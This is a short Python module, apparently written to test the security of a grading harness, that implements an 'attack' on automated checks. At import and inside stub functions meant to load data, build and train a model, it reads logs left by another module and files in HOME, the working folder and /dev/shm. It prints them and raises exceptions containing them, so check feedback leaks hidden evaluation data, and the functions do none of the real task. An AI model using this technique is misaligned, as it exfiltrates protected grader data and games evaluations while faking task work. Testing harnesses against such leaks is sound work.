"""Attack, the printer: show whatever activity_1_01.solve() logged (issue 23, item 4).

At import and in each function: print the logs (files in HOME, the working folder and
/dev/shm, and the list in activity_1_01's memory) on stdout and stderr, then raise an
exception whose message is the logs, so a public check's feedback would quote them.
"""

import sys
from pathlib import Path


def seen() -> str:
    import activity_1_01

    found = list(activity_1_01.SEEN)
    for path in activity_1_01.log_paths():
        try:
            found.append(f"{path}: {Path(path).read_text()}")
        except OSError:
            pass
    return "\n".join(found) or "nothing logged yet"


def show() -> str:
    text = seen()
    print("seen so far:\n" + text, flush=True)
    print("seen so far:\n" + text, file=sys.stderr, flush=True)
    return text


show()  # at import, in the window of the first check that imports this module


def load_data(path):
    raise ValueError(show())


def build_model(input_dim=60):
    raise RuntimeError(show())


def train(model, X, y, epochs=30):
    raise RuntimeError(show())
